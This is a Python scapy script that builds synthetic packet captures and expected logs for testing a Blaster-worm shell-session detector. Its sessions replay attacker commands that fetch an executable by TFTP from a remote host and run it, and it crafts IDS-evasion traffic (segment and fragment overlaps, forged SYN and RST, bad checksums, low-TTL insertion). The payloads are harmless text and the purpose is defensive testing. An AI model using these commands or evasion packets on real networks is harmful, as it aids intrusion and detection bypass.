#!/usr/bin/python3
"""Generate wormsnare's sample captures and the event logs they must produce.

    /usr/bin/python3 pcaps/gen.py [OUTDIR]      (default: the folder of this script)

Every capture is built from the sessions below with fixed addresses, ports,
sequence numbers and timestamps, so a rerun writes the same bytes. For each
capture NAME it writes NAME.pcap (NAME.pcapng for the pcapng sample) and
NAME.tsv, the expected blasterlog.txt of `wormsnare -r NAME.pcap` into a
fresh output directory, derived from what the script planted, not from a
run of wormsnare. Payloads served over TFTP are generated text, never
malware; their MD5/SHA-256 go to NAME.files.
"""
import hashlib
import os
import subprocess
import sys

from scapy.all import IP, TCP, UDP, CookedLinux, Dot1AD, Dot1Q, Ether, Raw, wrpcap

HEADER = ("EventID\tTime\tSourceIP\tFileName\tSourcePort\tDestIP\tDestPort\t"
          "Action\tServer\tFetch")
T0 = 1061301600.0            # 2003-08-19T14:00:00Z
ATTACKER = "81.132.114.254"
VICTIM = "10.0.0.5"
BANNER = (b"Microsoft Windows XP [Version 5.1.2600]\r\n"
          b"(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>")


def iso(t):
    import datetime
    sec = int(t)
    usec = int(round((t - sec) * 1e6))
    if usec == 1000000:
        sec, usec = sec + 1, 0
    d = datetime.datetime.fromtimestamp(sec, datetime.timezone.utc)
    return d.strftime("%Y-%m-%dT%H:%M:%S") + ".%06dZ" % usec


def escape(s):
    out = []
    for i, ch in enumerate(s.encode("latin-1")):
        if (0x20 <= ch <= 0x7e and ch != 0x5c) and not (i == 0 and ch == 0x23):
            out.append(chr(ch))
        else:
            out.append("\\x%02x" % ch)
    return "".join(out)


def payload(name, size):
    """A harmless, recognisable file of the given size."""
    seed = ("WORMSNARE-TEST-PAYLOAD %s " % name).encode()
    return (seed * (size // len(seed) + 1))[:size]


class Capture:
    """Packets with timestamps, and the events they must produce."""

    def __init__(self):
        self.pkts = []
        self.events = []      # (time, src, sport, dst, dport, action, file, server)
        self.files = []       # (name, bytes)
        self.keep_order = False

    def add(self, pkt, t):
        pkt.time = t
        self.pkts.append(pkt)

    def expect(self, t, sess, action, file, server=""):
        self.events.append((t, sess.cli, sess.cport, sess.srv, sess.sport, action, file, server))

    def sorted_pkts(self):
        if self.keep_order:
            return list(self.pkts)
        return sorted(self.pkts, key=lambda p: float(p.time))

    def tsv(self):
        rows = [HEADER]
        for i, (t, src, sport, dst, dport, action, file, server) in enumerate(
                sorted(self.events, key=lambda e: e[0]), 1):
            fetch = "disabled" if action == "get" else ""
            rows.append("\t".join([str(i), iso(t), src, escape(file), str(sport), dst,
                                   str(dport), action, escape(server), fetch]))
        return "\n".join(rows) + "\n"


class Session:
    """One TCP connection from the attacker (client) to the victim's shell."""

    def __init__(self, cap, cli=ATTACKER, cport=1234, srv=VICTIM, sport=4444, isn=1000000,
                 sisn=5000000, t=T0, l2=None):
        self.cap, self.cli, self.cport, self.srv, self.sport = cap, cli, cport, srv, sport
        self.cseq, self.sseq, self.t = isn + 1, sisn + 1, t
        self.isn, self.sisn = isn, sisn
        self.l2 = l2 or (lambda p: Ether(src="00:0c:29:11:22:33", dst="00:0c:29:44:55:66") / p)
        self.ipid = 100

    def tick(self, dt=0.01):
        self.t += dt
        return self.t

    def _ip(self, from_client, ttl=None):
        self.ipid += 1
        if from_client:
            return IP(src=self.cli, dst=self.srv, id=self.ipid, ttl=ttl or 113)
        return IP(src=self.srv, dst=self.cli, id=self.ipid + 5000, ttl=ttl or 128)

    def seg(self, from_client, flags, data=b"", seq=None, t=None, chksum=None, ttl=None,
            ack=None, window=None, ipchksum=None):
        if ack is None:
            ack = 0 if flags == "S" else (self.sseq if from_client else self.cseq)
        tcp = TCP(sport=self.cport if from_client else self.sport,
                  dport=self.sport if from_client else self.cport, flags=flags,
                  seq=seq if seq is not None else (self.cseq if from_client else self.sseq),
                  ack=ack, window=window if window is not None else 64240)
        if chksum is not None:
            tcp.chksum = chksum
        ip = self._ip(from_client, ttl)
        if ipchksum is not None:
            ip.chksum = ipchksum
        pkt = ip / tcp
        if data:
            pkt = pkt / Raw(data)
        self.cap.add(self.l2(pkt), t if t is not None else self.tick())
        return pkt

    def handshake(self):
        self.seg(True, "S", seq=self.isn)
        self.seg(False, "SA", seq=self.sisn)
        self.seg(True, "A")
        self.server(BANNER)

    def server(self, data):
        self.seg(False, "PA", data)
        self.sseq += len(data)
        self.seg(True, "A")

    def send(self, data, chunk=None):
        """Client data, in segments of chunk bytes; returns the time of each LF."""
        data = data.encode("latin-1") if isinstance(data, str) else data
        chunk = chunk or len(data)
        times = []
        for i in range(0, len(data), chunk):
            part = data[i:i + chunk]
            self.seg(True, "PA", part)
            self.cseq += len(part)
            times += [self.t] * part.count(b"\n")
        return times

    def line(self, text, events=(), chunk=None):
        """Send text plus LF; expect events = [(action, file, server)] at the LF's time."""
        (t,) = self.send(text + "\n", chunk)[-1:]
        for action, file, *server in events:
            self.cap.expect(t, self, action, file, server[0] if server else "")
        self.server(b"\r\nC:\\WINDOWS\\system32>")
        return t

    def close(self):
        self.seg(True, "FA")
        self.cseq += 1
        t = self.t
        self.seg(False, "FA")
        self.sseq += 1
        self.seg(True, "A")
        return t

    def reset(self):
        self.seg(True, "R")


def tftp_download(cap, client, server, name, data, t, cport=1030, tid=3012, blksize=None,
                  l2=None, retransmit=None, swap=None, stop_after=None):
    """The victim's RRQ to the attacker's UDP 69, answered from a new port (TID)."""
    l2 = l2 or (lambda p: Ether(src="00:0c:29:44:55:66", dst="00:0c:29:11:22:33") / p)
    opts = b""
    if blksize:
        opts = b"blksize\x00%d\x00tsize\x000\x00" % blksize
    cap.add(l2(IP(src=client, dst=server) / UDP(sport=cport, dport=69) /
               Raw(b"\x00\x01" + name.encode() + b"\x00octet\x00" + opts)), t)
    size = blksize or 512
    if blksize:
        t += 0.002
        cap.add(l2(IP(src=server, dst=client) / UDP(sport=tid, dport=cport) /
                   Raw(b"\x00\x06blksize\x00%d\x00tsize\x00%d\x00" % (blksize, len(data)))), t)
        t += 0.002
        cap.add(l2(IP(src=client, dst=server) / UDP(sport=cport, dport=tid) /
                   Raw(b"\x00\x04\x00\x00")), t)
    blocks = [data[i:i + size] for i in range(0, len(data) + 1, size)]
    if len(data) % size:
        blocks = blocks[:-1] if blocks[-1] == b"" else blocks
    order = list(range(len(blocks)))
    if swap is not None:
        order[swap], order[swap + 1] = order[swap + 1], order[swap]
    for n, i in enumerate(order):
        if stop_after is not None and n >= stop_after:
            break
        blk = (i + 1) & 0xffff
        t += 0.003
        cap.add(l2(IP(src=server, dst=client) / UDP(sport=tid, dport=cport) /
                   Raw(b"\x00\x03" + blk.to_bytes(2, "big") + blocks[i])), t)
        if retransmit == i:
            t += 0.5
            cap.add(l2(IP(src=server, dst=client) / UDP(sport=tid, dport=cport) /
                       Raw(b"\x00\x03" + blk.to_bytes(2, "big") + blocks[i])), t)
        t += 0.001
        cap.add(l2(IP(src=client, dst=server) / UDP(sport=cport, dport=tid) /
                   Raw(b"\x00\x04" + blk.to_bytes(2, "big"))), t)
    cap.files.append((name, data))
    return t


def blaster(cap, l2=None, tftp=True, **kw):
    """The msblast sequence: GET, transfer, start, bare run, close."""
    s = Session(cap, l2=l2, **kw)
    s.handshake()
    s.line("tftp -i %s GET msblast.exe" % s.cli, [("get", "msblast.exe", s.cli)])
    if tftp:
        s.t = tftp_download(cap, s.srv, s.cli, "msblast.exe", payload("msblast", 6176),
                            s.t + 0.05, l2=l2)
    s.server(b"Transfer successful: 6176 bytes in 1 second, 6176 bytes/s\r\n")
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.line("msblast.exe", [("exec", "msblast.exe")])
    s.close()
    return s


# ------------------------------------------------------------------- cases

def case_blaster_basic():
    cap = Capture()
    blaster(cap)
    return cap


def case_split_segments():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line("tftp -i 81.132.114.254 GET msblast.exe", [("get", "msblast.exe", ATTACKER)],
           chunk=2)
    s.line("start msblast.exe", [("start", "msblast.exe")], chunk=1)
    s.close()
    return cap


def case_out_of_order():
    cap = Capture()
    s = Session(cap)
    s.seg(True, "S", seq=s.isn)
    s.seg(False, "SA", seq=s.sisn)
    s.seg(True, "A")
    text = b"tftp -i 81.132.114.254 GET teekids.exe\nstart teekids.exe\n"
    parts = [text[0:10], text[10:25], text[25:40], text[40:]]
    base = s.cseq
    offs = [0, 10, 25, 40]
    # the first data segment arrives after a later one; the last before the third
    for i in (1, 0, 3, 2):
        s.seg(True, "PA", parts[i], seq=base + offs[i])
    t_fill = s.t        # segment 2 fills the last hole: both lines complete now
    s.cseq = base + len(text)
    cap.expect(t_fill, s, "get", "teekids.exe", ATTACKER)
    cap.expect(t_fill, s, "start", "teekids.exe")
    s.seg(False, "A")
    s.close()
    return cap


def case_ip_fragments():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    text = b"tftp -i 81.132.114.254 GET msblast.exe\n"
    ip = s._ip(True) / TCP(sport=s.cport, dport=s.sport, flags="PA", seq=s.cseq, ack=s.sseq,
                           window=64240) / Raw(text)
    ip = IP(bytes(ip))
    raw = bytes(ip[TCP])
    frags = []
    for off in range(0, len(raw), 16):
        chunk = raw[off:off + 16]
        mf = 1 if off + 16 < len(raw) else 0
        frags.append(IP(src=s.cli, dst=s.srv, id=ip.id, proto=6, flags=mf, frag=off // 8,
                        ttl=113) / Raw(chunk))
    order = [0, 2, 1] + list(range(3, len(frags)))
    order[-1], order[-2] = order[-2], order[-1]     # the last fragment before the one before
    for i in order:
        cap.add(s.l2(frags[i]), s.tick())
    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
    s.cseq += len(text)
    s.seg(False, "A")
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def vlan_l2(*tags):
    def wrap(p):
        frame = Ether(src="00:0c:29:11:22:33", dst="00:0c:29:44:55:66")
        for kind, vid in tags:
            frame = frame / (Dot1AD(vlan=vid) if kind == "ad" else Dot1Q(vlan=vid))
        return frame / p
    return wrap


def case_vlan():
    cap = Capture()
    blaster(cap, l2=vlan_l2(("q", 100)), tftp=False)
    return cap


def case_qinq():
    cap = Capture()
    blaster(cap, l2=vlan_l2(("ad", 200), ("q", 100)), tftp=False)
    return cap


def case_nat():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line("tftp -i 10.1.2.34 GET msblast.exe", [("get", "msblast.exe", "10.1.2.34")])
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def case_variants():
    cap = Capture()
    a = Session(cap, cli="62.30.7.11", cport=2001, srv="10.0.0.21", t=T0)
    b = Session(cap, cli="200.40.1.9", cport=3001, srv="10.0.0.22", t=T0 + 10)
    c = Session(cap, cli="24.5.66.7", cport=4001, srv="10.0.0.23", t=T0 + 20)
    a.handshake()
    a.line("tftp -i 62.30.7.11 GET teekids.exe\r", [("get", "teekids.exe", "62.30.7.11")])
    a.line("start teekids.exe\r", [("start", "teekids.exe")])
    a.line("teekids.exe\r", [("exec", "teekids.exe")])
    a.close()
    b.handshake()
    b.line("TFTP -I 200.40.1.9 GET MSLAUGH.EXE", [("get", "MSLAUGH.EXE", "200.40.1.9")])
    b.line("START MSLAUGH.EXE", [("start", "MSLAUGH.EXE")])
    b.close()
    c.handshake()
    c.line("tftp\t-i   24.5.66.7\t\tGET   penis32.exe  ", [("get", "penis32.exe", "24.5.66.7")])
    c.line("   penis32.exe", [("exec", "penis32.exe")])
    c.close()
    return cap


def case_http_noise():
    cap = Capture()
    s = Session(cap, sport=80)
    s.seg(True, "S", seq=s.isn)
    s.seg(False, "SA", seq=s.sisn)
    s.seg(True, "A")
    s.send("POST /notes HTTP/1.0\r\nContent-Length: 62\r\n\r\n"
           "tftp -i 1.2.3.4 GET msblast.exe\nstart msblast.exe\nmsblast.exe\n")
    s.server(b"HTTP/1.0 200 OK\r\n\r\ntftp -i 1.2.3.4 GET msblast.exe\n")
    s.close()
    return cap


def case_interleaved():
    cap = Capture()
    ss = [Session(cap, cli="81.132.114.%d" % (10 + i), cport=1100 + i,
                  srv="10.0.0.%d" % (30 + i), t=T0 + i * 0.003) for i in range(3)]
    for s in ss:
        s.handshake()
    names = ["msblast.exe", "teekids.exe", "mslaugh.exe"]
    # each session types its GET in three pieces; the pieces interleave
    lines = ["tftp -i %s GET %s\n" % (s.cli, n) for s, n in zip(ss, names)]
    for k in range(3):
        for i, s in enumerate(ss):
            piece = lines[i][k * 12:(k + 1) * 12] if k < 2 else lines[i][24:]
            s.t = max(x.t for x in ss) + 0.001
            times = s.send(piece)
            if times:
                cap.expect(times[-1], s, "get", names[i], s.cli)
    for s, n in zip(ss, names):
        s.t = max(x.t for x in ss) + 0.001
        s.line(n, [("exec", n)])
    for s in ss:
        s.t = max(x.t for x in ss) + 0.001
        s.close()
    return cap


def case_midstream():
    cap = Capture()
    s = Session(cap)
    # the capture starts after the handshake and the banner
    s.sseq += len(BANNER)
    s.line("tftp -i 81.132.114.254 GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def case_retransmit():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    text = b"tftp -i 81.132.114.254 GET msblast.exe\n"
    base = s.cseq
    s.seg(True, "PA", text[:20], seq=base, chksum=0xdead)       # bad checksum, first copy
    s.seg(True, "PA", text[:20], seq=base)                      # good retransmission
    s.seg(True, "PA", text[10:], seq=base + 10)                 # overlaps, completes the line
    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
    s.seg(True, "PA", text[10:], seq=base + 10)                 # exact duplicate
    s.cseq = base + len(text)
    s.seg(False, "A")
    t = s.line("start msblast.exe", [("start", "msblast.exe")])
    s.seg(True, "PA", b"start msblast.exe\n", seq=s.cseq - 18)  # late duplicate
    del t
    s.close()
    return cap


def case_close_vs_reset():
    cap = Capture()
    f = Session(cap, cport=1500)
    f.handshake()
    f.line("tftp -i 81.132.114.254 GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
    f.send("msblast.exe")                       # no LF: cmd.exe runs it at end of input
    t_fin = f.close()
    cap.expect(t_fin, f, "exec", "msblast.exe")
    r = Session(cap, cport=1501, t=f.t + 1)
    r.handshake()
    r.send("start x.exe")                       # no LF, then the connection is reset
    r.reset()
    return cap


def case_chained():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line("tftp -i 10.120.57.149 GET h3110.411 package.exe & package.exe & exit",
           [("get", "h3110.411", "10.120.57.149"), ("exec", "package.exe")])
    s.line("cmd /c tftp -i 1.2.3.4 GET a.exe", [("get", "a.exe", "1.2.3.4")])
    s.line('start "" /b a.exe', [("start", "a.exe")])
    s.close()
    return cap


def case_overlong():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.send(b"A" * 5000 + b"\n", chunk=1400)
    s.line("tftp -i 81.132.114.254 GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
    s.close()
    return cap


def case_hostile_names():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line("tftp -i 81.132.114.254 GET ..\\..\\windows\\x.exe",
           [("get", "..\\..\\windows\\x.exe", ATTACKER)])
    s.line("tftp -i 81.132.114.254 GET #x\xff.exe", [("get", "#x\xff.exe", ATTACKER)])
    s.line("start a\\b.exe", [("start", "a\\b.exe")])
    s.close()
    return cap


def case_tftp_variants():
    """Transfers seen on the wire, each answering a GET from its own session."""
    cap = Capture()
    t = T0
    kinds = [
        ("plain.exe", 2048, {}),                       # exact multiple: empty last block
        ("oack.exe", 5000, {"blksize": 1428}),         # options negotiated
        ("retrans.exe", 3000, {"retransmit": 2}),      # block 3 sent twice
        ("reorder.exe", 3000, {"swap": 1}),            # blocks 2 and 3 swapped
        ("unfinished.exe", 4000, {"stop_after": 3}),   # the rest never comes
        ("missing.exe", 0, {"error": True}),           # ERROR 1 instead of data
    ]
    for k, (name, size, opt) in enumerate(kinds):
        s = Session(cap, cli="81.132.114.%d" % (20 + k), cport=1300 + k,
                    srv="10.0.0.%d" % (40 + k), t=t)
        s.handshake()
        s.line("tftp -i %s GET %s" % (s.cli, name), [("get", name, s.cli)])
        if opt.get("error"):
            l2 = lambda p: Ether(src="00:0c:29:44:55:66", dst="00:0c:29:11:22:33") / p
            cap.add(l2(IP(src=s.srv, dst=s.cli) / UDP(sport=1031, dport=69) /
                       Raw(b"\x00\x01" + name.encode() + b"\x00octet\x00")), s.tick())
            cap.add(l2(IP(src=s.cli, dst=s.srv) / UDP(sport=3100, dport=1031) /
                       Raw(b"\x00\x05\x00\x01File not found\x00")), s.tick())
        else:
            data = payload(name, size)
            s.t = tftp_download(cap, s.srv, s.cli, name, data, s.t + 0.05, cport=1031 + k,
                                tid=3100 + k, blksize=opt.get("blksize"),
                                retransmit=opt.get("retransmit"), swap=opt.get("swap"),
                                stop_after=opt.get("stop_after"))
            if opt.get("stop_after") is not None:
                cap.files.pop()                        # never complete: nothing stored
        s.close()
        t = s.t + 1
    return cap


# ---------------------------------------------- evasions (issue 13), each resolved as
# the Windows victim resolves it: reassembly/README.md gives every rule and its source

JUNK = "tftp -i 81.132.114.254 GET xxxxxxx.exe"     # as long as the real GET line
REAL = "tftp -i 81.132.114.254 GET msblast.exe"


def insertion(junk_kw):
    """A junk copy of the GET line the victim refuses, then the real line."""
    def case():
        cap = Capture()
        s = Session(cap)
        s.handshake()
        kw = dict(junk_kw)
        flags = kw.pop("flags", "PA")
        s.seg(True, flags, (JUNK + "\n").encode(), **kw)
        s.line(REAL, [("get", "msblast.exe", ATTACKER)])
        s.line("start msblast.exe", [("start", "msblast.exe")])
        s.close()
        return cap
    return case


def case_forged_syn():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.seg(True, "S", seq=s.cseq + 900000)                 # out of the window: ignored
    s.seg(True, "S", seq=s.cseq + 10, chksum=0xdead)      # in the window, bad checksum
    s.send("start ")
    s.seg(True, "S", seq=s.cseq + 50000000, ttl=1)        # mid-line, TTL 1
    s.line("msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def case_beyond_window():
    """The victim offers 512 bytes; junk sent past that is dropped, not queued."""
    cap = Capture()
    s = Session(cap)
    s.seg(True, "S", seq=s.isn)
    s.seg(False, "SA", seq=s.sisn, window=512)
    s.seg(True, "A")
    s.seg(False, "PA", BANNER, window=512)
    s.sseq += len(BANNER)
    s.seg(True, "A")
    pad = "echo " + "A" * 600
    junk_at = s.cseq + len(pad) + 1      # where the real GET line will start
    s.seg(True, "PA", (JUNK + "\n").encode(), seq=junk_at)     # beyond the 512 bytes
    s.send(pad + "\n")
    s.seg(False, "A", window=512)
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.close()
    return cap


def case_rst_mid_line():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.send("tftp -i 81.132.114.254 ")
    s.seg(False, "R", seq=s.sseq + 200000)                # out of window
    s.seg(True, "R", seq=s.cseq + 300000)                 # out of window
    s.seg(True, "R", seq=s.cseq, chksum=0xdead)           # in window, bad checksum
    s.seg(True, "R", seq=s.cseq, ttl=2)                   # in window, TTL too low
    s.line("GET msblast.exe", [("get", "msblast.exe", ATTACKER)])
    s.close()
    return cap


def case_duplicate_after_rst():
    """As in the real 2003 capture: a mid-stream session, RST, then the same packets again."""
    cap = Capture()
    s = Session(cap)
    s.sseq += len(BANNER)
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.line("msblast.exe", [("exec", "msblast.exe")])
    s.reset()
    for p in list(cap.pkts):
        cap.add(p.copy(), float(p.time) + 5)
    return cap


def case_data_after_fin():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.seg(True, "FA")
    s.cseq += 1
    s.seg(True, "PA", b"start evil.exe\n", seq=s.cseq - 1)    # at the FIN's place
    s.seg(True, "PA", b"start evil2.exe\n", seq=s.cseq)       # after it
    s.seg(False, "FA")
    s.sseq += 1
    s.seg(True, "A")
    return cap


def case_replay_closed():
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    data = [p for p in cap.pkts if p.haslayer(Raw) and p[TCP].sport == s.cport]
    for p in data:                                         # the client's data, no SYN
        cap.add(p.copy(), float(p.time) + 30)
    return cap


def case_tcp_overlap():
    """Out-of-order overlaps: Windows keeps the first copy unless a later one covers it
    entirely and starts before it (Novak & Sturges 2007; Snort 3 full_right_overlap_os1)."""
    cap = Capture()
    s = Session(cap)
    s.handshake()
    text = (REAL + "\n").encode()
    base = s.cseq
    # 1: same start, same length: the first copy (real) stays
    s.seg(True, "PA", text[8:], seq=base + 8)
    s.seg(True, "PA", (JUNK + "\n").encode()[8:], seq=base + 8)
    s.seg(True, "PA", text[:8], seq=base)
    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
    s.cseq = base + len(text)
    s.seg(False, "A")
    # 2: junk queued first, then a real copy starting before it and covering it: real wins
    line2 = b"start msblast.exe\n"
    base = s.cseq
    s.seg(True, "PA", b"evil.exe", seq=base + 6)
    s.seg(True, "PA", line2[4:], seq=base + 4)
    s.seg(True, "PA", line2[:4], seq=base)
    cap.expect(s.t, s, "start", "msblast.exe")
    s.cseq = base + len(line2)
    s.seg(False, "A")
    s.close()
    return cap


def case_ipfrag_overlap():
    """Fragment overlaps, Windows: the first copy wins unless a later fragment starts
    before an earlier one and ends after it (Novak 2005; Suricata defrag.c, windows)."""
    cap = Capture()
    s = Session(cap)
    s.handshake()
    text = (REAL + "\n").encode()
    ip = s._ip(True) / TCP(sport=s.cport, dport=s.sport, flags="PA", seq=s.cseq, ack=s.sseq,
                           window=64240) / Raw(text)
    ip = IP(bytes(ip))
    raw = bytes(ip[TCP])            # 20 header bytes, then the line
    junk = raw[:20] + (JUNK + "\n").encode()

    def frag(off, chunk, mf):
        return IP(src=s.cli, dst=s.srv, id=ip.id, proto=6, flags=mf, frag=off // 8,
                  ttl=113) / Raw(chunk)
    cap.add(s.l2(frag(0, raw[:24], 1)), s.tick())
    cap.add(s.l2(frag(40, raw[40:48], 1)), s.tick())       # real bytes 40..47
    cap.add(s.l2(frag(40, junk[40:48], 1)), s.tick())      # same place: the first stays
    cap.add(s.l2(frag(32, b"XXXXXXXX", 1)), s.tick())      # junk 32..39, then covered:
    cap.add(s.l2(frag(24, raw[24:48], 1)), s.tick())       # starts before, ends after it
    cap.add(s.l2(frag(48, raw[48:], 0)), s.tick())
    cap.expect(s.t, s, "get", "msblast.exe", ATTACKER)
    s.cseq += len(text)
    s.seg(False, "A")
    s.line("start msblast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def case_clock_jumps():
    """One packet 20 years ahead, one 20 years back, in the middle of a line."""
    cap = Capture()
    s = Session(cap)
    s.handshake()
    s.line(REAL, [("get", "msblast.exe", ATTACKER)])
    s.send("start ms")
    s.seg(False, "A", t=s.t + 20 * 365 * 86400)
    s.seg(False, "A", t=s.t - 20 * 365 * 86400)
    cap.keep_order = True           # the file keeps these where they were sent
    s.tick(30)
    s.line("blast.exe", [("start", "msblast.exe")])
    s.close()
    return cap


def cooked(p):
    return CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6, src=b"\x00\x0c\x29\x11\x22\x33",
                       proto=0x0800) / p


def null_header(p):
    # DLT_NULL: the address family in the capturing host's byte order (here little-endian)
    return Raw(b"\x02\x00\x00\x00") / p


CASES = {
    "blaster-basic": case_blaster_basic,
    "split-segments": case_split_segments,
    "out-of-order": case_out_of_order,
    "ip-fragments": case_ip_fragments,
    "vlan": case_vlan,
    "qinq": case_qinq,
    "nat": case_nat,
    "variants": case_variants,
    "http-noise": case_http_noise,
    "interleaved": case_interleaved,
    "midstream": case_midstream,
    "retransmit": case_retransmit,
    "close-vs-reset": case_close_vs_reset,
    "chained": case_chained,
    "overlong": case_overlong,
    "hostile-names": case_hostile_names,
    "tftp-variants": case_tftp_variants,
    "evasion-forged-syn": case_forged_syn,
    "evasion-tcp-checksum": insertion({"chksum": 0xdead}),
    "evasion-ip-checksum": insertion({"ipchksum": 0xdead}),
    "evasion-ttl": insertion({"ttl": 1}),
    "evasion-no-ack": insertion({"flags": "P"}),
    "evasion-bad-ack": insertion({"ack": 5000001 + 900000}),
    "evasion-beyond-window": case_beyond_window,
    "evasion-rst": case_rst_mid_line,
    "duplicate-after-rst": case_duplicate_after_rst,
    "data-after-fin": case_data_after_fin,
    "replay-closed": case_replay_closed,
    "tcp-overlap": case_tcp_overlap,
    "ipfrag-overlap": case_ipfrag_overlap,
    "clock-jumps": case_clock_jumps,
}


def write(outdir, name, cap, linktype=None):
    path = os.path.join(outdir, name + ".pcap")
    pkts = cap.sorted_pkts()
    if linktype is not None:
        wrpcap(path, pkts, linktype=linktype)
    else:
        wrpcap(path, pkts)
    with open(os.path.join(outdir, name + ".tsv"), "w") as f:
        f.write(cap.tsv())
    if cap.files:
        with open(os.path.join(outdir, name + ".files"), "w") as f:
            for fname, data in cap.files:
                f.write("%s\t%d\t%s\t%s\n" % (fname, len(data), hashlib.md5(data).hexdigest(),
                                              hashlib.sha256(data).hexdigest()))
    return path


def main():
    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
    for name, fn in CASES.items():
        write(outdir, name, fn())
    # the basic session on other link types, and as pcapng
    write(outdir, "linktype-sll", blaster_on(cooked))
    write(outdir, "linktype-null", blaster_on(null_header), linktype=0)
    write(outdir, "linktype-raw", blaster_on(lambda p: p), linktype=101)
    base = os.path.join(outdir, "blaster-basic")
    subprocess.run(["editcap", "-F", "pcapng", base + ".pcap", base + ".pcapng"], check=True)


def blaster_on(l2):
    cap = Capture()
    blaster(cap, l2=l2)
    return cap


if __name__ == "__main__":
    main()
